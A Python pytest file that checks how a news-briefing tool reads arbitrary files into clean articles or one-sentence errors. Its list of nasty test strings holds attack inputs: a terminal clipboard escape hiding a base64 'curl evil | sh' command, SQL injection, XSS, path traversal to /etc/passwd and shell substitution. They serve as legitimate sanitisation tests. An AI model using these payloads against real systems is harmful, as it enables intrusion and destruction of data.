"""A file becomes an article or one sentence."""

from __future__ import annotations

import hashlib
import io
import os
import socket
import tempfile
import time
from collections.abc import Iterator
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from briefing.errors import IntakeError
from briefing.intake import article_id, read
from briefing.model.clean import clean

STORY = "The harbour board met on Monday. “We will dredge,” its chair said — “before winter.”"


def put(folder: Path, data: bytes, name: str = "story.txt") -> Path:
    """A file with these bytes."""
    path = folder / name
    path.write_bytes(data)
    return path


def complaint(path: Path) -> str:
    """What reading says is wrong; checked to be one sentence that can be shown."""
    with pytest.raises(IntakeError) as caught:
        read(path)
    sentence = str(caught.value)
    assert sentence == clean(sentence)
    assert "\n" not in sentence
    assert sentence.endswith(".")
    assert ";" in sentence  # what, and what to do
    return sentence


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "utf-16", "utf-16-le", "utf-16-be", "utf-32", "cp1252"])
def test_encodings(tmp_path: Path, encoding: str) -> None:
    (article,) = read(put(tmp_path, STORY.encode(encoding)))
    assert article.text == STORY


def test_big_endian_with_a_mark(tmp_path: Path) -> None:
    (article,) = read(put(tmp_path, b"\xfe\xff" + STORY.encode("utf-16-be")))
    assert article.text == STORY


def test_another_alphabet_from_before_unicode(tmp_path: Path) -> None:
    story = "Министр обороны заявил, что страна готова к переговорам. Он добавил, что решение будет принято позже. " * 5
    (article,) = read(put(tmp_path, story.encode("cp1251")))
    assert article.text == story
    assert article.language == "ru"


def test_utf8_cut_in_a_character_is_still_utf8(tmp_path: Path) -> None:
    data = ("Ærø så är det, “sagde” hän; " * 5 + "é").encode()[:-1]
    (article,) = read(put(tmp_path, data))
    assert article.text.startswith("Ærø så är det, “sagde” hän")
    assert article.text.endswith("\ufffd")


def test_the_hash_is_of_the_bytes_and_the_id_of_the_words(tmp_path: Path) -> None:
    data = STORY.replace(". ", ".\r\n").encode()
    (article,) = read(put(tmp_path, data))
    assert article.sha256 == hashlib.sha256(data).hexdigest()
    assert article.id == hashlib.sha256(f"{article.text}\0".encode()).hexdigest()[:16] == article_id(article.text, None)
    assert article_id(article.text, "Gazette") != article.id


def test_the_path_is_as_given(tmp_path: Path) -> None:
    path = put(tmp_path, STORY.encode(), "nämn [sic].text")
    assert read(path)[0].path == str(path)


@pytest.mark.skipif(os.name == "nt", reason="names are always Unicode there")
def test_a_name_that_is_no_utf8(tmp_path: Path) -> None:
    path = Path(os.fsdecode(os.fsencode(tmp_path) + b"/caf\xe9.txt"))
    path.write_text(STORY, encoding="utf-8")
    (article,) = read(path)
    assert article.path.endswith("caf\\xe9.txt")
    article.path.encode()


def test_what_is_not_there(tmp_path: Path) -> None:
    assert "There is no file" in complaint(tmp_path / "nowhere\x1b[2J\n.txt")
    assert "no possible file name" in complaint(Path("a\0b"))
    assert "cannot be read" in complaint(tmp_path / ("x" * 5000))


def test_what_is_no_file(tmp_path: Path) -> None:
    assert "is a folder" in complaint(tmp_path)
    assert "no ordinary file" in complaint(Path("/dev/zero"))


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="needs pipes")
def test_a_pipe_never_hangs(tmp_path: Path) -> None:
    os.mkfifo(tmp_path / "pipe.txt")
    assert "no ordinary file" in complaint(tmp_path / "pipe.txt")


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="needs pipes")
def test_a_file_that_turns_into_a_pipe_never_hangs(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    path = put(tmp_path, STORY.encode())
    before = path.stat()
    path.unlink()
    os.mkfifo(path)
    monkeypatch.setattr(Path, "stat", lambda self, **_: before)
    assert "no ordinary file" in complaint(path)


def test_a_socket(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)
    with socket.socket(socket.AF_UNIX) as listener:
        listener.bind("s.txt")
        assert "no ordinary file" in complaint(Path("s.txt"))


def test_what_may_not_be_read(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    def refuse(*_: object) -> int:
        raise PermissionError(13, "Permission denied")

    path = put(tmp_path, STORY.encode())
    monkeypatch.setattr("briefing.intake.files.os.open", refuse)
    assert "may not be read" in complaint(path)


def test_what_vanishes_while_it_is_read(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    class Stale(io.BytesIO):
        def read(self, size: int | None = -1, /) -> bytes:
            raise OSError(116, "Stale file handle")

    path = put(tmp_path, STORY.encode())
    monkeypatch.setattr("briefing.intake.source.open_file", lambda _: Stale())
    assert "cannot be read (stale file handle)" in complaint(path)


@pytest.mark.parametrize(
    ("data", "says"),
    [
        (b"", "is empty"),
        (b" \n\t\r\n\xc2\xa0\n", "only blanks"),
        (b"\xef\xbb\xbf", "only blanks"),
        (b"abc\0def", "is binary"),
        (bytes(range(1, 32)) * 20, "is binary"),
        (b"%PDF-1.7\n1 0 obj", "is damaged or cut short"),
        (b"PK\x03\x04rest", "ZIP archive"),
        (b"{\\rtf1 }", "holds no text"),
        (b"\x89PNG\r\n", "a picture"),
    ],
)
def test_what_holds_no_article(tmp_path: Path, data: bytes, says: str) -> None:
    assert says in complaint(put(tmp_path, data))


def test_a_large_file_is_not_read(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    path = tmp_path / "large.txt"
    with path.open("wb") as file:
        file.truncate(2_000_000_000)
    started = time.monotonic()
    assert "2000 MB, at most 20 MB" in complaint(path)
    assert time.monotonic() - started < 1.0  # it was not read


def test_a_file_that_grows_past_the_limit(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    path = put(tmp_path, STORY.encode())
    monkeypatch.setattr("briefing.intake.source.open_file", lambda _: io.BytesIO(b"more " * 5_000_000))
    assert "larger than an article may be" in complaint(path)


def test_a_few_escape_sequences_are_text(tmp_path: Path) -> None:
    (article,) = read(put(tmp_path, b"\x1b[31mRed [sic]\x1b[0m\n\nThe board met. [/ it said."))
    assert article.text == "␛[31mRed [sic]␛[0m\n\nThe board met. [/ it said."


@pytest.fixture(scope="module")
def scratch() -> Iterator[Path]:
    """One file to write over and over."""
    with tempfile.TemporaryDirectory() as folder:
        yield Path(folder) / "scratch.txt"


PIECES = (
    *(
        "By Jane Doe",
        "PARIS (AP) — ",
        "March 3, 2021",
        "---\ntitle: x\n---\n",
        "(Reporting by ",
        "“",
        "\n",
        "\n\n",
        ". ",
    ),
    *(
        "# ",
        ": ",
        "http://a.b/c",
        "\x1b]52;c;",
        "\u202e",
        "Photo: ",
        "word ",
        "[[[[",
        "{{{{",
        "&a ",
        "*a ",
        "\t",
        "--- ",
    ),
)


@settings(max_examples=200)
@given(
    data=st.binary() | st.lists(st.sampled_from(PIECES)).map("".join).map(str.encode),
    suffix=st.sampled_from([".txt", ".md"]),
)
def test_any_bytes_are_an_article_or_a_sentence(scratch: Path, data: bytes, suffix: str) -> None:
    path = scratch.with_suffix(suffix)
    path.write_bytes(data)
    try:
        (article,) = read(path)
    except IntakeError:
        return
    assert article.text == clean(article.text)
    assert article.title
    assert article.title == clean(article.title)
    assert "\n" not in article.title
    assert all(p.start <= p.dateline <= p.end <= len(article.text) for p in article.paragraphs)


NASTY = [
    "\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07",
    "\x1b[2J\x1b[H\x1bP+q\x1b\\",
    "\x9b31mred\x9d0;title\x9c",
    "[/bold] [red]x[/red] [@click=app.quit]go[/]",
    "[sic] [He] [expletive] [",
    "\u202etxt.exe\u202c \u2066hidden\u2069",
    "a\u0338\u0301" * 50,
    "👩\u200d👩\u200d👧 🏴\U000e0067\U000e0062\U000e007f ﷽",
    "' OR 1=1; DROP TABLE articles; --",
    "<script>alert(1)</script> <img src=x onerror=y>",
    "../../etc/passwd %00 %s %n {0} ${HOME} $(id) `id`",
    "Ｆｕｌｌ ｗｉｄｔｈ ㄱ가 ی\u200cک عربي עברית",
    "\ufeff\ufffe\uffff\U0001f4a9\U0010ffff",
    '"' * 2_000,
    "“" * 2_000,
    "(" * 2_000 + "[" * 2_000,
    "By " * 500,
    "PARIS, " * 300 + "— x",
    "1/1/" * 1_000,
    "a." * 5_000,
]


@pytest.mark.parametrize("nasty", NASTY)
def test_nasty_strings_anywhere(tmp_path: Path, nasty: str) -> None:
    for text in (nasty, f"{nasty}\n\n{STORY}", f"{STORY}\n\n{nasty}\n\n{STORY}", f"---\ntitle: {nasty}\n---\n{STORY}"):
        for name in ("story.txt", "story.md"):
            (article,) = read(put(tmp_path, text.encode(), name))
            shown = article.text + article.title + str(article.author) + str(article.outlet)
            assert shown == clean(shown)


def test_huge_lines_cost_little_time(tmp_path: Path) -> None:
    started = time.process_time()
    for text in (
        "word " * 200_000,
        "x" * 1_000_000,
        '"' * 100_000,
        "\n".join(f"Line {number}" for number in range(100_000)),
        "\n\n".join(["A heading here", STORY] * 10_000),
        "a\u0301\u0316" * 100_000,
        ". " * 200_000,
        "---\n" + "[" * 40_000 + "\n---\nx",
    ):
        read(put(tmp_path, text.encode(), "story.md"))
    assert time.process_time() - started < 60
